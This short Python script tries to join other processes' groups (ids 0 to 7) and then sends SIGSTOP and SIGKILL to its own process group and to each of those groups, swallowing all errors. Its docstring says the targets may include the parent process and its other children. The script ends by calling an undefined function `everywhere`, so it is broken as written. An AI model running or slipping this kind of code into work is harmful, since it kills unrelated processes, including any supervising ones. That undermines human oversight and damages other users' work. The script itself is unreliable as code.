"""Signals to a whole group or session, which may hold the process that started this one and its
other children.
"""
import os
import signal


def group(*args, **kwargs):
    for join in range(8):  # somebody else's group, where one can be joined
        try:
            os.setpgid(0, join)
        except OSError:
            pass
        for number in (signal.SIGSTOP, signal.SIGKILL):
            for send in (lambda: os.kill(0, number), lambda: os.killpg(join, number)):
                try:
                    send()
                except OSError:
                    pass


everywhere(group)
